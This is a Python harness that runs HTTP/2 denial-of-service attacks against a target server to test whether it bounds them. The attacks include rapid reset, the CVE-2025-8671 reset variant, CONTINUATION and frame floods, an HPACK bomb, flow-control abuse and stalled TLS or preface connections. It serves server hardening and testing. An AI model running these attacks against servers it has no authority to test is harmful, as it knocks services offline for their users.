#!/usr/bin/env python3
"""What a hostile client of HTTP/2 can do to a server, and whether the server bounds it.

    attacks.py --address HOST:PORT --pid PID [--get PATH] [--post PATH] [--header NAME:VALUE]... [--only TEXT]

While each attack runs, another client asks once and again; each answer has to come. The memory of the process may
grow by --mebibytes at most. Some attacks must end with the connection: their line says so. Ends with 1 when the
server broke a bound.
"""
import argparse
import select
import socket
import ssl
import sys
import threading
import time
from collections import namedtuple

from conformance import Server
from wire import *  # noqa: F403

Attack = namedtuple("Attack", "name must_end run")
ATTACKS = []
MEBIBYTE = 1 << 20


def attack(name, must_end=False):
    def add(run):
        ATTACKS.append(Attack(name, must_end, run))
        return run
    return add


def flood(c, piece, times, most_bytes=64 * MEBIBYTE):
    """Sends the piece again and again without reading, until the server ends it or takes no more."""
    batch = max(1, min(times, 16384 // max(1, len(piece))))
    sent = 0
    while sent < times and c.sent < most_bytes:
        # A server that reads no more has bounded the flood as well as one that ends it.
        if not c.write(piece * batch, seconds=2.0):
            return sent
        sent += batch
        if is_over(c):
            return sent
    return sent


def is_over(c):
    """Whether the server has closed, or has said GOAWAY; reads what is there, and keeps little of it."""
    while select.select([c.socket], [], [], 0)[0] or c.socket.pending():
        seen = c.next(0.001)
        if seen.kind in ("GOAWAY", "CLOSED"):
            return True
        if seen.kind == "TIMEOUT":
            return False
    return False


def outcome(c, seconds):
    """How it ended: what the server said, or that it goes on."""
    c.ping(b"and now?")
    last = None
    for seen in c.events(seconds):
        if seen.kind == "GOAWAY":
            last = seen
        if seen.kind == "CLOSED":
            return True, str(last or seen)
        if seen.kind == "PING ACK" and seen.data == b"and now?" and last is None:
            return False, "goes on"
    return last is not None, str(last or "silent")


@attack("rapid reset: requests that are reset at once")
def _(c, server):
    block = fields(server.request())
    c.handshake()
    for at in range(20_000):
        stream = 2 * at + 1
        piece = frame_bytes(HEADERS, END_HEADERS | END_STREAM, stream, block)
        if not c.write(piece + frame_bytes(RST_STREAM, 0, stream, b"\0\0\0\x08"), 2.0):
            return
        if at % 64 == 0 and is_over(c):
            return


@attack("rapid reset of requests whose body is missing")
def _(c, server):
    block = fields(server.request("POST"))
    c.handshake()
    for at in range(20_000):
        stream = 2 * at + 1
        piece = frame_bytes(HEADERS, END_HEADERS, stream, block)
        if not c.write(piece + frame_bytes(RST_STREAM, 0, stream, b"\0\0\0\x08"), 2.0):
            return
        if at % 64 == 0 and is_over(c):
            return


@attack("errors that make the server reset (CVE-2025-8671)")
def _(c, server):
    block = fields(server.request("POST"))
    c.handshake()
    for at in range(20_000):
        stream = 2 * at + 1
        piece = frame_bytes(HEADERS, END_HEADERS, stream, block)
        if not c.write(piece + frame_bytes(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"), 2.0):
            return
        if at % 64 == 0 and is_over(c):
            return


@attack("a flood of CONTINUATION frames", must_end=True)
def _(c, server):
    c.handshake().headers(1, fields(server.request()), END_STREAM)
    flood(c, frame_bytes(CONTINUATION, 0, 1, literal("x-more", "x" * 16000)), 4000)


@attack("a flood of empty CONTINUATION frames", must_end=True)
def _(c, server):
    c.handshake().headers(1, fields(server.request()), END_STREAM)
    flood(c, frame_bytes(CONTINUATION, 0, 1), 200_000)


def flood_of(name, *frame_of, begin=False):
    @attack(f"a flood of {name}")
    def _(c, server):
        c.handshake()
        if begin:
            c.headers(1, fields(server.request()))
        flood(c, frame_bytes(*frame_of), 100_000)


flood_of("PING", PING, 0, 0, b"12345678")
flood_of("PING ACK that nobody asked for", PING, ACK, 0, b"12345678")
flood_of("SETTINGS ACK that nobody asked for", SETTINGS, ACK, 0)
flood_of("RST_STREAM of a closed stream", RST_STREAM, 0, 1, b"\0\0\0\x08", begin=True)
flood_of("GOAWAY", GOAWAY, 0, 0, b"\0" * 8)
flood_of("SETTINGS", SETTINGS, 0, 0, settings_payload([(MAX_STREAMS, 100)]))
flood_of("empty SETTINGS", SETTINGS, 0, 0)
flood_of("PRIORITY of an idle stream", PRIORITY, 0, 9, b"\0\0\0\0\x0f")
flood_of("WINDOW_UPDATE of the connection", WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")
flood_of("frames of an unknown type", 0x16, 0, 0, b"x" * 64)


@attack("PING and SETTINGS whose answers are never read")
def _(c, server):
    c.handshake()
    piece = frame_bytes(PING, 0, 0, b"12345678") + frame_bytes(SETTINGS, 0, 0)
    for _ in range(4000):
        if not c.write(piece * 500, 2.0):
            return


@attack("a block of fields that is too large, in many fields")
def _(c, server):
    c.handshake().headers(1, fields(server.request()), END_STREAM)
    for at in range(20):
        last = END_HEADERS if at == 19 else 0
        if not c.frame(CONTINUATION, last, 1, literal("x-more", "x" * 60) * 230):
            return


@attack("an HPACK bomb: one field of 4 KB, named 12,000 times by one byte each")
def _(c, server):
    block = fields(server.request())
    c.handshake().headers(1, block + literal("x-bomb", "x" * 3900, 0x40))
    for at in range(8):
        c.headers(3 + 2 * at, block + integer(62, 7, 0x80) * 12_000)


@attack("streams beyond the limit")
def _(c, server):
    block = fields(server.request("POST"))
    c.handshake()
    for at in range(2000):
        if not c.headers(2 * at + 1, block, END_HEADERS):
            return


@attack("a body in frames of one byte")
def _(c, server):
    c.handshake().headers(1, fields(server.request("POST")), END_HEADERS)
    flood(c, frame_bytes(DATA, 0, 1, b"x"), 20_000)


@attack("a body of empty frames")
def _(c, server):
    c.handshake().headers(1, fields(server.request("POST")), END_HEADERS)
    flood(c, frame_bytes(DATA, 0, 1), 200_000)


@attack("a body that is padding only")
def _(c, server):
    c.handshake().headers(1, fields(server.request("POST")), END_HEADERS)
    flood(c, frame_bytes(DATA, PADDED, 1, b"\xff" + b"\0" * 255), 20_000)


@attack("more body than the windows allow")
def _(c, server):
    c.handshake().headers(1, fields(server.request("POST")), END_HEADERS)
    flood(c, frame_bytes(DATA, 0, 1, b"x" * 16384), 4000)


@attack("answers that are asked for and never read, on every stream")
def _(c, server):
    c.handshake([(INITIAL_WINDOW, 0)])
    for at in range(100):
        get = frame_bytes(HEADERS, END_HEADERS | END_STREAM, 2 * at + 1, fields(server.request()))
        if not c.write(get, 2.0):
            return
    if server.stall:
        server.ends_by = time.monotonic() + server.stall


@attack("windows that open by one byte")
def _(c, server):
    c.handshake([(INITIAL_WINDOW, 0)])
    c.headers(1, fields(server.request()))
    flood(c, frame_bytes(WINDOW_UPDATE, 0, 1, b"\0\0\0\x01"), 20_000)


@attack("a table that changes its size all the time")
def _(c, server):
    c.handshake()
    for at in range(2000):
        pairs = [(TABLE_SIZE, 0 if at % 2 else 4096), (INITIAL_WINDOW, at)]
        if not c.frame(SETTINGS, 0, 0, settings_payload(pairs)):
            return


# What stalls before there are frames: it must end within --stall seconds.
def stalled(address, begin):
    raw = socket.create_connection(address, timeout=5)
    try:
        return begin(raw)
    except (OSError, ssl.SSLError):
        return None


def tls(raw):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    return context.wrap_socket(raw, server_hostname="localhost")


def half_hello(raw):
    raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00")
    return raw


def half_preface(raw):
    connection = tls(raw)
    connection.sendall(PREFACE[:10])
    return connection


def preface_alone(raw):
    connection = tls(raw)
    connection.sendall(PREFACE)
    return connection


def half_frame(raw):
    connection = tls(raw)
    connection.sendall(PREFACE + frame_bytes(SETTINGS, 0, 0) + b"\0\x40\0\x01")
    return connection


def half_block(raw):
    connection = tls(raw)
    connection.sendall(PREFACE + frame_bytes(SETTINGS, 0, 0)
                       + frame_bytes(HEADERS, END_STREAM, 1, b"\x82"))
    return connection


STALLS = [("nothing after the connection", lambda raw: raw), ("half a TLS hello", half_hello),
          ("nothing after the TLS handshake", tls), ("half a preface", half_preface),
          ("a preface and no SETTINGS", preface_alone), ("half a frame", half_frame),
          ("half a block of fields", half_block)]


def stalls(server, only):
    """All at once: each must be closed in the time, with whatever words before."""
    begun = [(name, stalled(server.address, begin)) for name, begin in STALLS if only in f"stall: {name}"]
    until, failed = time.monotonic() + server.stall, []
    for name, connection in begun:
        ended = connection is None or reads_to_end(connection, until)
        print(f"{'pass' if ended else 'FAIL'}  stall: {name}"
              + ("" if ended else f"\n      still open after {server.stall:g} s"), flush=True)
        failed += [] if ended else [name]
    return len(begun), failed


def reads_to_end(connection, until):
    while True:
        connection.settimeout(max(0.01, until - time.monotonic()))
        try:
            if not connection.recv(65536):
                return True
        except TimeoutError:
            return False
        except (OSError, ssl.SSLError):
            return True


class Neighbour(threading.Thread):
    """Another client, which asks as long as the attack lasts."""

    def __init__(self, server):
        super().__init__(daemon=True)
        self.server, self.over, self.answers, self.trouble = server, threading.Event(), 0, None
        self.slowest = 0.0

    def run(self):
        while not self.trouble:
            begun = time.monotonic()
            self.trouble = self.ask()
            self.slowest = max(self.slowest, time.monotonic() - begun)
            if self.over.is_set() and self.answers:
                return
            time.sleep(0.02)

    def ask(self):
        try:
            c = self.server.connect()
        except OSError as error:
            return f"cannot connect: {error}"
        try:
            c.handshake().headers(1, fields(self.server.request()))
            for seen in c.events():
                if seen.kind == "HEADERS" and 200 <= seen.status() < 500 and seen.status() != 400:
                    self.answers += 1
                    return None
                if seen.kind in ("RST_STREAM", "GOAWAY", "CLOSED", "TIMEOUT", "HEADERS"):
                    return f"asked, and got {seen}"
        except OSError as error:
            return str(error)
        finally:
            c.close()
        return "no answer"


def resident(pid):
    """The most memory that the process has had, in bytes."""
    if not pid:
        return 0
    with open(f"/proc/{pid}/status") as lines:
        return next(int(line.split()[1]) * 1024 for line in lines if line.startswith("VmHWM"))


def run(one, server, options):
    """What was wrong, and what came of it."""
    before, neighbour = resident(options.pid), Neighbour(server)
    neighbour.start()
    attacker = server.connect()
    server.ends_by = None
    try:
        one.run(attacker, server)
        wait = server.ends_by - time.monotonic() if server.ends_by else server.seconds
        is_ended, how = outcome(attacker, max(wait, 0.1))
        if server.ends_by and not is_ended:
            is_ended, how = outcome(attacker, max(server.ends_by - time.monotonic(), 0.1))
    finally:
        neighbour.over.set()
        neighbour.join(60)
        attacker.close()
    grown = resident(options.pid) - before
    how += f"; {attacker.sent / MEBIBYTE:.1f} MiB sent; memory + {grown / MEBIBYTE:.1f} MiB; "
    how += f"others: {neighbour.answers} answers, {neighbour.slowest:.2f} s at most"
    wrong = []
    if neighbour.trouble or not neighbour.answers:
        wrong.append(f"another client {neighbour.trouble or 'got nothing'}")
    if grown > options.mebibytes * MEBIBYTE:
        wrong.append("too much memory")
    if one.must_end and not is_ended:
        wrong.append("the connection goes on")
    return "; ".join(wrong), how


def arguments():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--address", required=True)
    parser.add_argument("--pid", type=int, default=0)
    parser.add_argument("--get", default="/")
    parser.add_argument("--post", default="/")
    parser.add_argument("--header", action="append", default=[])
    parser.add_argument("--seconds", type=float, default=10.0, help="how long an answer may take")
    parser.add_argument("--stall", type=float, default=0, help="within how many seconds a stall must end")
    parser.add_argument("--mebibytes", type=int, default=64, help="how much memory an attack may take")
    parser.add_argument("--only", default="", help="attacks with this text in their name")
    return parser.parse_args()


def main():
    options = arguments()
    server = Server(options)
    server.stall = options.stall
    failed, done = [], 0
    for one in ATTACKS:
        if options.only not in one.name:
            continue
        done += 1
        try:
            wrong, how = run(one, server, options)
        except OSError as error:
            wrong, how = str(error), "the server cannot be reached"
        must = " (must end)" if one.must_end else ""
        print(f"{'FAIL' if wrong else 'pass'}  {one.name}{must}: {how}" + (f"\n      {wrong}" if wrong else ""),
              flush=True)
        failed += [one.name] if wrong else []
    if server.stall:
        begun, more = stalls(server, options.only)
        done, failed = done + begun, failed + more
    print(f"{done} attacks, {done - len(failed)} bounded, {len(failed)} not")
    return 1 if failed or not done else 0


if __name__ == "__main__":
    sys.exit(main())
